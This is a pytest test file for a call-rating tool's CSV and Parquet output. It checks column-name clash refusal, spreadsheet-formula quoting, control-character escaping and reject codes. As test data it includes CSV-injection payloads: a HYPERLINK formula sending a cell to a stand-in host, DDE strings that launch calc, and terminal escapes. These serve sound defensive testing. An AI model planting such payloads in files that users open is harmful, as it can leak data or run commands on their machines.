"""What ``rating400 rate`` writes for people and programs beside the
charges: an input column named like an output column is refused with
``--pass-through`` (never replaced or dropped silently), naming the file
and the columns (README "Pass-through columns"); a text cell that starts
like a spreadsheet formula is quoted in every CSV, numbers are not, and
the readers of a rated CSV get the text as given (README "Formulas in CSV
output"); the rejects file and gRPC ``Reject`` carry a ``code`` for
programs beside the ``reason`` for people."""
from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from rating_core import bulk, cdr
from rating_core.cdr import InvalidFile
from rating_core.cli import main
from rating_core.rater import RATED_COLUMNS, Rater
from rating_core.store import Store

from demo_server import copy_store
from inprocess import cli
from test_rerate import PAYG, root  # noqa: F401 - the fixture: version 1 with calls committed, version 2 dearer

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def calls(demo):
    """The demo's first 20 CDRs that rate (those of the demo's rated file)."""
    rated = set(pq.read_table(demo / "rated.parquet").column("call_id").to_pylist())
    t = pq.read_table(demo / "cdrs.parquet")
    keep = [i for i, c in enumerate(t.column("call_id").to_pylist()) if c in rated][:20]
    return t.take(pa.array(keep))


def with_columns(t: pa.Table, **columns) -> pa.Table:
    for name, values in columns.items():
        if not isinstance(values, pa.Array):
            values = pa.array(values if isinstance(values, list) else [values] * t.num_rows)
        t = t.append_column(name, values)
    return t


# --- 1. a pass-through column named like an output column ---------------------------------
def test_a_clashing_column_is_refused_before_rating_naming_file_and_columns(demo, calls, tmp_path, capsys):
    src = tmp_path / "clash.csv"
    pacsv.write_csv(with_columns(calls, charge_minor="999", status="ANSWERED", note="kept"), src)
    out = tmp_path / "out.csv"
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
    assert code == 2
    assert err.strip() == (f"error: {src}: line 1: with --pass-through, column(s) charge_minor, status would be "
                           "replaced by the rated output's own of that name: rename them in the file (e.g. "
                           "in_charge_minor, in_status) or rate without --pass-through")
    assert not out.exists()
    # The README shows this very message.
    shown = re.search(r"### Pass-through columns\n.*?```text\n(.*?)```", (ROOT / "README.md").read_text(), re.S)
    assert shown.group(1).strip() == err.strip().replace(str(src), "clash.csv")
    # Renamed as the message says, every column is kept, theirs beside ours.
    pacsv.write_csv(with_columns(calls, in_charge_minor="999", in_status="ANSWERED", note="kept"), src)
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
    assert code == 0, err
    t = pacsv.read_csv(out, convert_options=pacsv.ConvertOptions(column_types={"in_charge_minor": pa.string()}))
    assert set(t.column("in_charge_minor").to_pylist()) == {"999"} and set(t.column("status").to_pylist()) == {"rated"}
    assert t.column("charge_minor").type == pa.int64() and t.num_rows == calls.num_rows
    # Without --pass-through the extra columns are not read: nothing to refuse.
    pacsv.write_csv(with_columns(calls, charge_minor="999"), src)
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out)
    assert code == 0, err


@pytest.mark.parametrize("name", ["file", "row", "account", "answered", "replayed", "charge", "credit_after_minor",
                                  # Up to case, width and spaces (breaker N12 F6).
                                  " charge_minor", "Charge_Minor", "ＡＣＣＯＵＮＴ"])
def test_every_output_name_is_refused_in_parquet_and_with_commit(demo, calls, tmp_path, capsys, name):
    """Parquet input, --commit: refused before the ledger is touched (the
    same file rates and commits once renamed, nothing replayed)."""
    src = tmp_path / "in.parquet"
    pq.write_table(with_columns(calls, **{name: "x"}), src)
    out = tmp_path / "out.parquet"
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through", "--commit")
    assert code == 2 and f"{src}: with --pass-through, column(s) {name} would be replaced" in err, err
    assert not out.exists()


def test_output_names_are_the_rated_tables_own(demo, calls):
    """``bulk.OUTPUT_NAMES`` holds every column the rater adds to the input
    (``rater.RATED_COLUMNS``, checked against a rated table) and the rated
    files' ``file`` and ``row``; no CDR field."""
    store = Store(demo / "store", create=False)
    rated = Rater(store.open()).rate(calls).rated
    added = set(rated.column_names) - set(calls.column_names) - {"row"}
    assert added == set(RATED_COLUMNS) and added < bulk.OUTPUT_NAMES
    assert {"file", "row"} < bulk.OUTPUT_NAMES and not bulk.OUTPUT_NAMES & set(calls.column_names)


def test_the_bulk_api_refuses_too(demo, calls, tmp_path):
    src = tmp_path / "in.csv"
    pacsv.write_csv(with_columns(calls, account="mine"), src)
    store = Store(demo / "store", create=False)
    rater = Rater(store.open())
    with pytest.raises(InvalidFile, match="column\\(s\\) account would be replaced"):
        bulk.rate_dataset([src], rater, rater.opening_state(), tmp_path / "o.csv", tmp_path / "r.csv",
                          pass_through=True)
    assert not (tmp_path / "o.csv").exists()


def appended(t: pa.Table, *columns: tuple[str, str]) -> pa.Table:
    """``t`` with text columns (name, value) appended, a name possibly twice."""
    return pa.Table.from_arrays([*t.columns, *(pa.array([v] * t.num_rows) for _, v in columns)],
                                names=[*t.column_names, *(n for n, _ in columns)])


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
@pytest.mark.parametrize("twins", [("call_id", "Call_ID"), ("start", " start"), ("end", "ｅｎｄ"),
                                   ("note", "Note"), ("note", "ｎｏｔｅ"), ("note", "note\u00a0"), ("note", " note")])
def test_pass_through_columns_alike_to_a_reader_are_refused(demo, calls, tmp_path, capsys, suffix, twins):
    """Breaker N13 F7: ``Call_ID`` beside ``call_id`` (or ``note`` beside
    ``Note``) was kept side by side; DuckDB read the second as ``Call_ID_1``,
    so ``select Call_ID`` returned our call id. Refused as a column named
    like ours is (the one fold, ``bulk._folded``): exit 2, the file, line 1
    of a CSV, both names as written; without --pass-through it rates."""
    first, second = twins
    src = tmp_path / f"twins{suffix}"
    t = appended(calls, *[(n, "x") for n in twins if n not in calls.column_names])
    (pq.write_table if suffix == ".parquet" else pacsv.write_csv)(t, src)
    out = tmp_path / "o.parquet"
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
    where = f"{src}: line 1: " if suffix == ".csv" else f"{src}: "
    assert code == 2 and err.strip() == (
        f"error: {where}with --pass-through, columns {first!r}, {second!r} differ only in case, full-width letters "
        "or surrounding spaces: a spreadsheet or SQL takes them as one, so the rated output's columns would be "
        "misread; rename them apart in the file or rate without --pass-through"), err
    assert not out.exists()
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out)
    assert code == 0 and pq.read_table(out).num_rows == calls.num_rows, err


@pytest.mark.parametrize("suffix", [".parquet", ".csv"])
def test_a_column_given_twice_is_refused_only_if_it_is_read(demo, calls, tmp_path, capsys, suffix):
    """Breaker N13 F12: a Parquet file with two ``note`` columns was refused
    without --pass-through ("line 1: ... header"). Only the CDR fields are
    read then: it rates, dry and committed (a CSV too). With --pass-through
    it is refused naming the Parquet schema (it has no line 1 or header) or
    a CSV's header; a CDR field given twice is refused either way (which
    one is the call's?)."""
    src = tmp_path / f"dup{suffix}"
    write = pq.write_table if suffix == ".parquet" else pacsv.write_csv
    write(appended(calls, ("note", "a"), ("note", "b")), src)
    store = tmp_path / "demo"
    copy_store(demo, store)
    for commit in ((), ("--commit",)):
        out = tmp_path / f"o{len(commit)}.parquet"
        code, _, err = cli(capsys, "rate", src, "--store", store / "store", "--out", out, *commit)
        assert code == 0 and pq.read_table(out).num_rows == calls.num_rows, err
    code, _, err = cli(capsys, "rate", src, "--store", store / "store", "--out", tmp_path / "p.parquet",
                       "--pass-through")
    where, schema = (f"{src}: ", "the Parquet schema") if suffix == ".parquet" else (f"{src}: line 1: ", "the header")
    assert code == 2 and err.strip() == (
        f"error: {where}with --pass-through, column 'note' is given 2 times in {schema}, so the rated "
        "output's columns would be misread; rename them apart in the file or rate without --pass-through"), err
    write(appended(calls, ("start", "2026-10-01T00:00:00+08:00")), src)
    for flags in ((), ("--pass-through",)):
        code, _, err = cli(capsys, "rate", src, "--store", store / "store", "--out", tmp_path / "s.parquet", *flags)
        assert code == 2 and err.strip() == f"error: {where}column 'start': column given twice in {schema}", err


# --- 2. formulas in CSV output ---------------------------------------------------------------
LINK = '=HYPERLINK("http://x.example/?"&A2,"details")'
NOTES = [LINK, "-5", "@SUM(A1)", "'=x", "+1", "-12.50", "\tTAB", "plain"]
# A pass-through tab is escaped as a control character (``cdr.bytes_as_text``), no formula then.
QUOTED = ["'" + LINK, "-5", "'@SUM(A1)", "''=x", "+1", "-12.50", "\\tTAB", "plain"]


def csv_rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def formulas(demo, calls, tmp_path_factory):
    """The demo's calls with call ids and a pass-through note starting like
    formulas, an int64 column of -5, a caller ``@SUM(...)`` (a reject),
    rated to CSV and Parquet, lean and --pass-through."""
    d = tmp_path_factory.mktemp("formulas")
    n = len(NOTES)
    t = calls.slice(0, n + 1)
    ids = ["=1+1", "-7", *t.column("call_id").to_pylist()[2:]]
    t = t.set_column(0, "call_id", pa.array(ids))
    callers = t.column("caller").to_pylist()
    callers[n] = "@SUM(1+1)*cmd|' /C calc'!A0"
    t = t.set_column(1, "caller", pa.array(callers))
    t = with_columns(t, note=[*NOTES, "x"], adjust_minor=pa.array([-5] * (n + 1), pa.int64()),
                     tag=pa.array([*NOTES, "x"]).dictionary_encode())  # quoted in the dictionary
    src = d / "cdrs.parquet"
    pq.write_table(t, src)
    out = {"cdrs": t, "src": src}
    for name in ("full.csv", "full.parquet", "lean.csv"):
        code = subprocess_rate(demo, src, d / name, "--pass-through" if name.startswith("full") else None)
        assert code == 0
        out[name] = d / name
    out["rejects"] = d / "full.rejects.csv"
    return out


def subprocess_rate(demo, src, out, *more):
    try:
        main(["rate", str(src), "--store", str(demo / "store"), "--out", str(out), *[m for m in more if m]])
    except SystemExit as e:
        return e.code
    return 0


def test_the_rated_csv_quotes_formula_cells_and_keeps_numbers(formulas):
    rows = {r["row"]: r for r in csv_rows(formulas["full.csv"])}
    n = len(NOTES)
    assert sorted(rows, key=int) == [str(i) for i in range(1, n + 1)]  # the last row is the caller's reject
    assert [rows[str(i + 1)]["note"] for i in range(n)] == QUOTED
    assert [rows[str(i + 1)]["tag"] for i in range(n)] == QUOTED
    assert rows["1"]["call_id"] == "'=1+1" and rows["2"]["call_id"] == "-7"  # -7 is a number, not a formula
    assert {r["adjust_minor"] for r in rows.values()} == {"-5"}  # an int64 column: a number, never quoted
    assert all(not r["charge_minor"].startswith("'") for r in rows.values())
    lean = {r["row"]: r for r in csv_rows(formulas["lean.csv"])}
    assert lean["1"]["call_id"] == "'=1+1" and "note" not in lean["1"]
    # Parquet holds the text as given.
    t = pq.read_table(formulas["full.parquet"]).sort_by("row")
    assert t.column("note").to_pylist() == NOTES and t.column("call_id").to_pylist()[0] == "=1+1"
    assert t.column("adjust_minor").type == pa.int64()


def test_the_rejects_csv_quotes_the_caller(formulas):
    (reject,) = csv_rows(formulas["rejects"])
    assert reject["field"] == "caller" and reject["value"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_readers_of_a_rated_csv_get_the_text_as_given(demo, formulas, capsys, tmp_path):
    """``cdr.read_rated`` (bill, advise, explain, report, crm) undoes the
    quote: the same table as from the Parquet file, text for text."""
    a = cdr.read_rated(formulas["full.csv"]).sort_by("row")
    b = cdr.read_rated(formulas["full.parquet"]).sort_by("row")
    for name in ("call_id", "caller", "account", "file"):
        assert a.column(name).to_pylist() == b.column(name).to_pylist(), name
    # A pass-through control character (the note's tab) is escaped in the CSV, as given in Parquet.
    assert a.column("note").to_pylist() == cdr.bytes_as_text(b.column("note")).to_pylist()
    assert a.column("charge_minor").to_pylist() == b.column("charge_minor").to_pylist()
    code, out, err = cli(capsys, "explain", "=1+1", "--store", demo / "store", "--rated", formulas["full.csv"],
                         "--json")
    assert code == 0, err
    assert json.loads(out)["call_id"] == "=1+1"
    for path in (formulas["full.csv"], formulas["full.parquet"]):
        code, _, err = cli(capsys, "report", path, "--by", "number", "--out", tmp_path / f"{path.suffix}.json")
        assert code == 0, err
    assert (tmp_path / ".csv.json").read_text() == (tmp_path / ".parquet.json").read_text()


def test_a_pass_through_column_named_like_a_formula_is_quoted_in_the_header(demo, calls, tmp_path, capsys):
    """Breaker 2 F6: cells were quoted but a pass-through column named
    ``=cmd`` was written as is in the header row, which Excel opens too.
    The header is quoted as a cell is, and the readers of a rated CSV get
    the name as given."""
    src = tmp_path / "named.csv"
    pacsv.write_csv(with_columns(calls, **{"=cmd": "x", "@SUM(A1)": "y", "-5": "z"}), src)
    out = tmp_path / "out.csv"
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
    assert code == 0, err
    header = next(csv.reader(out.open(newline="")))
    assert "'=cmd" in header and "'@SUM(A1)" in header and "-5" in header and "=cmd" not in header
    back = cdr.read_rated(out)
    assert {"=cmd", "@SUM(A1)", "-5"} <= set(back.column_names)
    assert set(back.column("=cmd").to_pylist()) == {"x"}


def test_a_binary_pass_through_column_is_never_raw_bytes_in_the_csv(demo, calls, tmp_path, capsys):
    """Breaker 2 F6: a Parquet binary column of UTF-8 bytes holding a NUL
    was written raw into the rated CSV. A binary column is written as a
    reject shows a binary cell (``cdr.bytes_as_text``): a NUL ``\\x00``, a
    byte not UTF-8 ``\\xff``, text as it is; Parquet output keeps the bytes."""
    blob = pa.array([b"\x00=1", b"\xff\xfeab", b"plain", None] * 5, pa.binary())
    src = tmp_path / "bin.parquet"
    pq.write_table(with_columns(calls, blob=blob), src)
    out = tmp_path / "out.csv"
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
    assert code == 0, err
    raw = out.read_bytes()
    assert b"\x00" not in raw and b"\xff" not in raw
    got = cdr.read_rated(out).sort_by("row").column("blob").to_pylist()
    assert got[:4] == ["\\x00=1", "\\xff\\xfeab", "plain", None], got[:4]
    # Every cell UTF-8 and none a control character: text as it is, in one pass.
    assert cdr.bytes_as_text(pa.array([b"ok", None], pa.binary())).to_pylist() == ["ok", None]
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", tmp_path / "o.parquet",
                       "--pass-through")
    assert code == 0 and pq.read_table(tmp_path / "o.parquet").sort_by("row").column("blob").to_pylist()[:2] == [
        b"\x00=1", b"\xff\xfeab"], err


def test_a_text_pass_through_column_is_never_raw_control_characters_in_the_csv(demo, calls, tmp_path, capsys):
    """Hostile-input round: a text (not binary) pass-through column holding
    a NUL or an escape was written raw into the rated CSV. Written as a
    binary column is (``cdr.bytes_as_text``); Parquet output keeps the text."""
    note = pa.array(["a\x00b", "\x1b[2J", "\u202eevil", "plain", None] * 4, pa.string())
    for src in (tmp_path / "text.parquet", tmp_path / "text.csv"):
        (pq.write_table if src.suffix == ".parquet" else pacsv.write_csv)(with_columns(calls, note=note), src)
        out = tmp_path / "out.csv"
        code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
        assert code == 0, err
        raw = out.read_bytes()
        assert b"\x00" not in raw and b"\x1b" not in raw and "\u202e".encode() not in raw
        got = cdr.read_rated(out).sort_by("row").column("note").to_pylist()
        assert got[:5] == ["a\\x00b", "\\x1b[2J", "\\u202eevil", "plain", None], got[:5]
    code, _, err = cli(capsys, "rate", tmp_path / "text.parquet", "--store", demo / "store", "--out",
                       tmp_path / "o.parquet", "--pass-through")
    assert code == 0 and pq.read_table(tmp_path / "o.parquet").sort_by("row").column("note").to_pylist()[:2] == [
        "a\x00b", "\x1b[2J"], err


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_pass_through_column_without_a_name_is_refused_naming_its_position(demo, calls, tmp_path, capsys, suffix):
    src = tmp_path / f"unnamed{suffix}"
    t = with_columns(calls, **{"": "x"})
    (pq.write_table if suffix == ".parquet" else pacsv.write_csv)(t, src)
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", tmp_path / "o.csv", "--pass-through")
    assert code == 2 and f"with --pass-through, column {t.num_columns} has no name" in err, err
    # Without --pass-through the column is not read: nothing to refuse.
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", tmp_path / "o.csv")
    assert code == 0, err


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
@pytest.mark.parametrize("name", ["n\x00ote", "n\x1bote", "\ufeffnote", "no\u202ete"])
def test_a_pass_through_column_name_holding_a_control_character_is_refused(demo, calls, tmp_path, capsys, suffix,
                                                                          name):
    """Breaker N11 F9: a pass-through column named ``n\x00ote`` (or with an
    ESC, or a BOM inside) was rated and written raw into the rated output's
    header (a terminal ``cat`` of it ran the escape). Refused before
    anything is rated, as a column without a name is: exit 2, the file,
    line 1 (a CSV's header), the column's position and its name escaped."""
    src = tmp_path / f"odd{suffix}"
    t = with_columns(calls, **{name: "x"})
    (pq.write_table if suffix == ".parquet" else pacsv.write_csv)(t, src)
    out = tmp_path / "o.csv"
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", out, "--pass-through")
    where = f"{src}: line 1: " if suffix == ".csv" else f"{src}: "
    assert code == 2 and (f"{where}with --pass-through, column {t.num_columns}'s name {name!r} holds a control "
                          "character") in err, err
    assert not out.exists() and "\x00" not in err and "\x1b" not in err and "\ufeff" not in err


def test_the_cell_rule_is_undone_exactly():
    from rating_core import cells

    values = [*NOTES, "''=x", "'abc", "'-5", "-", "", None, "=", "\r1", "1e5", "+86 10 1234"]
    quoted = cells.column(pa.array(values, pa.string()))
    assert quoted.to_pylist() == [cells.cell(v) for v in values]
    assert cells.original(quoted).to_pylist() == values
    assert cells.column(pa.array(["a", "-5"])).to_pylist() == ["a", "-5"]


def test_the_rerating_adjustments_csv_quotes_a_formula_reason(root, tmp_path, capsys):  # noqa: F811
    out = tmp_path / "adj.csv"
    code, _, err = cli(capsys, "rerate", "--store", root, "--version", "2", "--from", "2026-10-01", "--to",
                       "2026-10-31", "--number", PAYG, "--dry-run", "--reason", "=cmd|' /C calc'!A0", "--out", out)
    assert code == 0, err
    rows = csv_rows(out)
    assert rows and {r["reason"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert all(int(r["delta_minor"]) > 0 for r in rows)


# --- 3. the rejects file's code ----------------------------------------------------------------
def test_every_reason_has_one_code_written_beside_it():
    codes = [code for code, _ in cdr.REJECT_REASONS]
    assert len(set(codes)) == len(codes) == len(cdr.REASONS)
    assert all(re.fullmatch(r"[a-z0-9]+(_[a-z0-9]+)*", c) for c in cdr.REJECT_CODES.values())
    assert len(set(cdr.REJECT_CODES.values())) == len(cdr.REJECT_CODES)  # no code for two reasons
    from rating_core.layout import RATE_STATUS
    from rating_core.rater import STATUS_FIELD

    assert {cdr.REJECT_CODES[s] for s in STATUS_FIELD} == set(STATUS_FIELD) == set(RATE_STATUS) - {"rated"}
    assert cdr.REJECT_CODES[cdr.REASONS[cdr.DUPLICATE]] == "duplicate_call_id"
    assert cdr.REJECT_CODES[cdr.REASONS[cdr.LONGER_THAN[128]]] == "longer_than_128_bytes"


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_the_rejects_file_has_a_code_beside_each_reason(demo, calls, tmp_path, capsys, suffix):
    t = calls.slice(0, 4)
    start = t.column("start").cast(pa.string()).to_pylist()
    rows = t.to_pylist()
    rows[1]["number"] = "4009999999"  # unknown_number (the rater's status)
    rows[3]["call_id"] = rows[0]["call_id"]  # duplicate call id (of a row rated)
    src = tmp_path / "in.csv"
    table = pa.Table.from_pylist(rows, t.schema)
    table = table.set_column(4, "start", pa.array([start[0], start[1], "yesterday", start[3]]))
    pacsv.write_csv(table, src)
    rejects = tmp_path / f"rejects{suffix}"
    code, _, err = cli(capsys, "rate", src, "--store", demo / "store", "--out", tmp_path / "o.parquet",
                       "--rejects", rejects)
    assert code == 0, err
    got = pq.read_table(rejects).to_pylist() if suffix == ".parquet" else csv_rows(rejects)
    assert list(got[0]) == ["file", "row", "call_id", "field", "reason", "value", "code"]
    assert sorted((int(r["row"]), r["field"], r["code"]) for r in got) == [
        (2, "number", "unknown_number"), (3, "start", "not_a_time"), (4, "call_id", "duplicate_call_id")]
    assert all(cdr.REJECT_CODES[r["reason"]] == r["code"] for r in got)


def test_grpc_rejects_carry_the_code():
    from rating400.v1 import rating_pb2
    from rating400_server.convert import rejects_to_proto

    t = pa.table({"row": [0, 1], "call_id": ["a", "b"], "field": ["start", "number"],
                  "reason": [cdr.REASONS[cdr.NOT_A_TIME], "no_rate"], "value": ["x", "4000000000"]},
                 schema=cdr.REJECT_SCHEMA)
    resp = rating_pb2.RateCdrBatchesResponse()
    assert rejects_to_proto(resp.rejects, t) == 2
    assert [(r.reason, r.code) for r in resp.rejects] == [(cdr.REASONS[cdr.NOT_A_TIME], "not_a_time"),
                                                          ("no_rate", "no_rate")]
